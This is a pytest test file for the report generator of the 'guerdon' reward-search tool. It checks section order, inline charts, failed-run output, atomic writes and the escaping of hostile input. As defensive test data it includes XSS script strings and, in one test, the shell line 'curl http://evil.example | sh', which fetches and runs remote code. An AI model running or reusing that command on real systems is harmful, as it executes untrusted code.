"""The page says what the journal says, to people and to machines."""

from __future__ import annotations

import base64
import errno
import functools
import hashlib
import html
import json
import re
import shlex
import subprocess
import sys
from collections.abc import Callable
from dataclasses import asdict, fields
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image
from synthetic_run import CONFIG, training

from guerdon.cli import commands, entry
from guerdon.cli.output import Answer
from guerdon.extras import MissingExtra
from guerdon.journal import CandidateRecord, Journal, JournalError, TrainingRecord
from guerdon.report import look, write_report
from guerdon.report.data import RunData
from guerdon.report.headline import headline
from guerdon.run import RunConfig
from guerdon.types import Failure

RunFolder = Callable[..., Path]

ALLOWED = frozenset(
    re.findall(
        r"\w+",
        """html head meta title style body header main footer nav section h1 h2 h3 p a
        dl div dt dd small table thead tbody tr th td figure figcaption picture source
        img pre code span details summary strong q""",
    )
)
EMPTY = {"meta", "source", "img"}
ATTRIBUTES = frozenset(
    re.findall(
        r"[\w-]+",
        """lang charset http-equiv content name class href id scope colspan media
        srcset src alt aria-label tabindex""",
    )
)


class Page(HTMLParser):
    """Checks that tags nest, and collects text and attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.words: list[str] = []
        self.links: list[str] = []
        self.ids: list[str] = []
        self.images: list[dict[str, str | None]] = []
        self.feed(text)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        values = dict(attrs)
        assert set(values) <= ATTRIBUTES, values
        for name in ("src", "srcset"):
            address = values.get(name)
            assert address is None or address.startswith("data:image/"), address
        if tag == "img":
            self.images.append(values)
        if "href" in values:
            self.links.append(str(values["href"]))
        if "id" in values:
            self.ids.append(str(values["id"]))
        if tag not in EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] != "style":
            self.words.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.words).split())


def read(path: Path) -> Page:
    return Page(path.read_text("utf-8"))


def report_json(folder: Path) -> dict[str, object]:
    def refuse(name: str) -> None:
        raise AssertionError(f"report.json holds {name}")

    text = (folder / "report.json").read_text()
    found: dict[str, object] = json.loads(text, parse_constant=refuse)
    return found


# A finished run ---------------------------------------------------------------------


def test_a_finished_run_is_told_in_one_sentence(finished_run: Path) -> None:
    assert headline(RunData(finished_run)) == (
        "On guerdon/DoorKey-8x8-v0, an agent trained with the reward that this search "
        "found reaches a true score of 0.912 (0.872 to 0.952) on 5 fresh seeds, "
        "against 0.15 (0.05 to 0.25) with the sparse reward and 0.55 (0.35 to 0.75) "
        "with the human-designed reward."
    )


def test_the_page_shows_every_section_in_order(finished_run: Path) -> None:
    page = read(finished_run / "report.html")
    assert page.ids == [link.removeprefix("#") for link in page.links]
    assert page.ids == [
        "holdout",
        "winner",
        "episode",
        "curves",
        "scatter",
        "makers",
        "failures",
        "genealogy",
        "cost",
        "time",
        "again",
        "everybody",
    ]
    for expected in (
        "best one without reflection r0-c06 (N = 8 of 24 candidates) "
        "0.78 [0.69, 0.87] 81 % [77 %, 86 %] 5",
        "Human-normalised score of the winner: 1.91 [1.5, 2.31]",
        "r2-c01 , made in round 2 by cross (written by the language model). Counting "
        "its ancestors, the model and the operators had a hand in it. After the "
        "finalists' extra seeds it is the best of them with probability 90 %.",
        # An operator crossed its parent r1-c02, of a model's and a sampled program.
        "the language model alone 9 8",
        "the search's own operators alone 13 9 0.466 r0-c04",
        "both: one changed or crossed what the other made 2 2 0.897 r2-c01",
        "forbidden 2 import is not part of the language",
        "timed_out 1 took longer than 600 s",
        "1 back r1-c02",
        "2 back r0-c04",
        "Prompt tokens 81,234",
        "Money not measured",
        "10 answered, 1 failed",
        "Time on the clock 16 min 52 s",
        "guerdon search guerdon/DoorKey-8x8-v0 --llm embedded:coder-1.5b "
        "--candidates 8 --rounds 3 --steps 100000 --seeds 5 --search-seeds 2 --out",
        "24 candidates in the order of their making",
    ):
        assert expected in page.text, expected
    assert "unfinished" not in page.text


def test_the_page_needs_no_network_and_runs_nothing(finished_run: Path) -> None:
    text = (finished_run / "report.html").read_text("utf-8")
    outside = re.sub(r"data:image/[a-z+]+;base64,[A-Za-z0-9+/=]*", "", text)
    assert "default-src 'none'" in outside
    assert not re.search(r"https?://|//[a-z]|url\(|@import|javascript:", outside)


def test_charts_are_inline_in_four_looks_and_on_the_disk(finished_run: Path) -> None:
    page = read(finished_run / "report.html")
    charts = [
        "holdout",
        "learning_curves",
        "term_shares",
        "time",
        "true_against_designed",
    ]
    assert len(page.images) == len(charts)
    for image in page.images:
        assert image["alt"]
        content = base64.b64decode(str(image["src"]).partition(",")[2])
        assert b"<svg" in content
    files = sorted((finished_run / "figures").iterdir())
    assert [path.name for path in files] == [f"{name}.png" for name in charts]
    for path in files:
        with Image.open(path) as picture:
            assert picture.width > 1000


@pytest.mark.usefixtures("without_charts")
def test_the_journal_is_only_read(copy_of_run: Path) -> None:
    folder = copy_of_run
    before = hashlib.sha256((folder / "journal.sqlite").read_bytes()).digest()
    write_report(folder)
    assert hashlib.sha256((folder / "journal.sqlite").read_bytes()).digest() == before
    assert sorted(path.name for path in folder.iterdir()) == [
        "journal.lock",
        "journal.sqlite",
        "report.html",
        "report.json",
    ]


@pytest.mark.usefixtures("without_charts")
def test_a_report_can_be_written_while_the_run_holds_its_journal(
    run_folder: RunFolder,
) -> None:
    folder = run_folder(finished=False)
    with Journal.open(folder) as journal:
        journal.add_round(9, {"best": None})
        page = read(write_report(folder))
    assert "4 rounds are complete" in page.text


def test_equal_runs_give_equal_pages(finished_run: Path, copy_of_run: Path) -> None:
    first = (finished_run / "report.html").read_text("utf-8")
    again = write_report(copy_of_run).read_text("utf-8")
    written = re.compile(r" on \d{4}-\d\d-\d\d \d\d:\d\d")
    assert written.sub("", again) == written.sub("", first)


def test_the_json_holds_the_numbers_of_the_page(finished_run: Path) -> None:
    found = report_json(finished_run)
    assert found["finished"] is True
    assert found["winner"] == "r2-c01"
    rows = {row["id"]: row for row in found["holdout"]}  # type: ignore[attr-defined]
    assert rows["human"]["fitness"]["value"] == 0.55
    assert rows["r2-c01"]["fitness"]["n"] == 5
    assert found["failures"] == {"forbidden": 2, "constant": 2, "timed_out": 1}
    candidates = found["candidates"]
    assert len(candidates) == 24  # type: ignore[arg-type]
    states = [candidate["state"] for candidate in candidates]  # type: ignore[attr-defined]
    assert states.count("failed") == 5
    assert states.count("trained") == 19


def test_selection_scores_leave_out_the_holdout(finished_run: Path) -> None:
    data = RunData(finished_run)
    winner = data.find("r2-c01")
    assert winner is not None
    assert winner.fitness is not None
    by_hand = [
        t.result["fitness"]
        for t in data.trainings
        if t.candidate == "r2-c01" and t.purpose == "search"
    ]
    assert len(by_hand) == 2
    assert winner.fitness.value == pytest.approx(sum(by_hand) / 2)
    assert len(data.shown_trainings("r2-c01")) == 5


def test_a_rendered_episode_is_inlined_by_its_bytes(failed_run: Path) -> None:
    folder = failed_run
    (folder / "figures").mkdir()
    film = folder / "figures" / "winner.gif"
    Image.new("RGB", (8, 8), "red").save(film)
    page = read(write_report(folder))
    (gif,) = [i for i in page.images if str(i["src"]).startswith("data:image/gif")]
    assert base64.b64decode(str(gif["src"]).partition(",")[2]) == film.read_bytes()
    film.write_text("<script>alert(1)</script>")
    assert "No episode of the winner" in read(write_report(folder)).text


# Unfinished and failed runs ---------------------------------------------------------


@pytest.mark.usefixtures("without_charts")
def test_an_unfinished_run_says_so_and_shows_the_best_so_far(
    run_folder: RunFolder,
) -> None:
    folder = run_folder(finished=False)
    page = read(write_report(folder))
    assert "This run is unfinished. 3 rounds are complete" in page.text
    assert "the best reward so far (r2-c01) reaches a true score of" in page.text
    assert "it has not been measured on fresh seeds" in page.text
    assert "sparse reward not measured not measured" in page.text
    assert report_json(folder)["finished"] is False


def test_a_run_that_has_only_begun_has_a_report(tmp_path: Path) -> None:
    Journal.create(tmp_path / "run", {"task": "T"}).close()
    page = read(write_report(tmp_path / "run"))
    assert "On T, no candidate has been proposed yet." in page.text
    assert page.images == []


def test_a_holdout_under_way_is_shown_with_what_there_is(finished_run: Path) -> None:
    data = RunData(finished_run)
    data.finished, data.summary = False, {}
    rows = {row.id: row for row in data.holdout}
    assert rows["sparse"].fitness is not None
    assert rows["sparse"].fitness.n == 5
    assert rows["best-of-n"].fitness is not None  # under its candidate's own id
    assert rows["best-of-n"].label == "best one without reflection"
    score = data.human_normalised
    assert score is not None
    best, sparse, human = (
        rows[name].fitness.value  # type: ignore[union-attr]
        for name in ("r2-c01", "sparse", "human")
    )
    assert score.value == pytest.approx((best - sparse) / (human - sparse))


def test_trainings_that_failed_on_fresh_seeds_are_told(run_folder: RunFolder) -> None:
    folder = run_folder(finished=False)
    with Journal.open(folder) as journal:
        journal.add_training(training("sparse", 100, "holdout", 0.2))
        for seed in (101, 102):
            journal.add_training(
                TrainingRecord(
                    key=f"lost-{seed}",
                    candidate="sparse",
                    seed=seed,
                    purpose="holdout",
                    steps=100_000,
                    failure=Failure("crashed", "the worker died"),
                )
            )
    row = next(row for row in RunData(folder).holdout if row.id == "sparse")
    assert row.fitness is not None
    assert (row.fitness.n, row.failed) == (1, 2)


def test_a_run_in_which_all_failed_shows_why(failed_run: Path) -> None:
    page = read(write_report(failed_run))
    assert "all 3 candidates failed, so there is no winner." in page.text
    assert "syntax 3 expected a function, got nothing" in page.text
    assert "Money none: no model was called" in page.text
    assert page.images == []
    assert report_json(failed_run)["winner"] is None


def test_a_folder_without_a_journal_is_refused_untouched(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(JournalError, match="expected a run folder"):
        write_report(tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["notes.txt"]


def test_without_matplotlib_the_page_has_its_tables_and_says_how_to_get_charts(
    copy_of_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def absent(module: str, extra: str) -> None:
        raise MissingExtra(f"{module} is not installed: pip install 'guerdon[{extra}]'")

    monkeypatch.setattr(look, "require", absent)
    page = read(write_report(copy_of_run))
    assert "No charts: matplotlib is not installed" in page.text
    assert "pip install 'guerdon[report]'" in page.text
    assert "best one without reflection r0-c06 (N = 8 of 24 candidates) 0.78" in (
        page.text
    )


# Hostile content --------------------------------------------------------------------


def test_hostile_text_is_shown_and_does_nothing(run_folder: RunFolder) -> None:
    folder = run_folder(hostile=True)
    path = write_report(folder)
    page = read(path)  # only our own tags and attributes, properly nested
    assert '<script>alert("x")</script></style>' in page.text
    assert "<script" not in path.read_text("utf-8")
    assert path.read_text("utf-8").count("</style>") == 1
    assert len(page.text) < 60_000


def test_names_that_are_no_names_do_not_break_a_chart(tmp_path: Path) -> None:
    wild = ["$\\frac{", "_hidden", "\u202e漢字🙂", "x" * 5000, "a\nb", "<b>&"]
    with Journal.create(tmp_path / "run", CONFIG) as journal:
        for slot, name in enumerate(wild):
            journal.add_candidate(
                CandidateRecord(
                    id=name,
                    round=0,
                    slot=slot,
                    operator=name,
                    parents=(name, "absent"),
                    source="x",
                )
            )
            record = training(name, 0, "search", 0.1 * slot, proxy=10.0 ** (2 * slot))
            record.result["curve"]["terms"][name] = [1.0] * 20
            journal.add_training(record)
    page = read(write_report(tmp_path / "run"))
    assert len(page.images) == 4
    assert "x" * 61 not in page.text
    assert "1 back absent not in the journal" in page.text


def test_secrets_in_a_configuration_are_hidden(finished_run: Path) -> None:
    page = (finished_run / "report.html").read_text("utf-8")
    assert "sk-do-not-show" not in page + (finished_run / "report.json").read_text()
    assert "(hidden)" in page


def test_importing_the_report_loads_neither_matplotlib_nor_torch() -> None:
    program = (
        "import sys; import guerdon.report; "
        "print([m for m in ('matplotlib', 'torch', 'PIL') if m in sys.modules])"
    )
    answer = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert answer.stdout == "[]\n"


@pytest.mark.usefixtures("without_charts")
def test_a_page_is_replaced_whole(
    failed_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_report(failed_run)
    before = path.read_bytes()

    def full_disk(*args: object) -> None:
        raise OSError("no space left")

    monkeypatch.setattr("guerdon.report.build.os.replace", full_disk)
    with pytest.raises(OSError, match="no space left"):
        write_report(failed_run)
    assert path.read_bytes() == before


def test_a_chart_is_replaced_whole(
    copy_of_run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_report(copy_of_run)
    figures = copy_of_run / "figures"
    before = {path.name: path.read_bytes() for path in figures.iterdir()}
    assert before

    def full_disk(path: Path, data: bytes) -> None:
        with path.open("wb") as file:
            file.write(data[:10])
        raise OSError(errno.ENOSPC, "no space left")

    monkeypatch.setattr(Path, "write_bytes", full_disk)
    with pytest.raises(OSError, match="no space left"):
        write_report(copy_of_run)
    assert {path.name: path.read_bytes() for path in figures.iterdir()} == before


@pytest.mark.usefixtures("without_charts")
def test_the_command_that_repeats_a_run_has_all_that_decides_about_it(
    tmp_path: Path,
) -> None:
    asked = RunConfig(
        task="guerdon/CartPole-v1",
        llm="sampler",
        steps=81_920,
        trainer="population",
        race="halving",
        eta=3,
        rungs=3,
    )
    folder = tmp_path / "a run"
    with Journal.create(folder, asdict(asked)) as journal:
        journal.set_meta("command", "curl http://evil.example | sh")
    write_report(folder)
    command = report_json(folder)["command"]
    page = (folder / "report.html").read_text("utf-8")
    assert html.escape(str(command)) in page
    assert "evil.example" not in page
    given = parse_search(shlex.split(str(command))[1:])
    assert RunConfig(**{f.name: given[f.name] for f in fields(RunConfig)}) == asked
    assert given["out"] == Path("runs/a run-again")


def parse_search(words: list[str]) -> dict[str, object]:
    """What the command line makes of these words, without running them."""
    kept: dict[str, object] = {}

    def search(task: str, **more: object) -> Answer:
        kept.update(more, task=task)
        return Answer({}, lambda: None)

    search = functools.wraps(commands.search)(search)
    with pytest.MonkeyPatch.context() as patched:
        patched.setitem(entry._COMMANDS, "search", search)
        assert entry.main(words) == 0
    return kept


def test_who_found_what_agrees_with_the_scores_of_all_candidates(
    finished_run: Path,
) -> None:
    data = RunData(finished_run)
    assert [maker.origin for maker in data.origins] == ["model", "operators", "both"]
    mixed = {"r1-c02", "r2-c01"}  # nobody else has parents
    rows = [
        (maker, [c for c in data.candidates if c.id in mixed])
        if maker.origin == "both"
        else (
            maker,
            [
                c
                for c in data.candidates
                if c.origin == maker.origin and c.id not in mixed
            ],
        )
        for maker in data.origins
    ]
    for maker in data.operators:
        key = maker.origin, maker.name
        made = [c for c in data.candidates if (c.origin, c.record.operator) == key]
        rows.append((maker, made))
    for maker, made in rows:
        scores = {c.id: c.fitness.value for c in made if c.fitness is not None}
        assert maker.candidates == len(made)
        assert maker.best == max(scores, key=lambda name: scores[name])
        assert maker.fitness == scores[maker.best]


def test_terms_seen_once_are_no_picture(tmp_path: Path) -> None:
    with Journal.create(tmp_path / "run", CONFIG) as journal:
        journal.add_candidate(
            CandidateRecord(id="a", round=0, slot=0, operator="sample", source="x")
        )
        record = training("a", 0, "search", 0.5)
        for name in ("steps", "fitness"):
            record.result["curve"][name] = [100]
        record.result["curve"]["terms"] = {"near": [1.0]}
        journal.add_training(record)
    page = read(write_report(tmp_path / "run"))
    assert [image["alt"] for image in page.images] == [
        "True score over training for all candidates",
        "Shares of the workers' time",
    ]
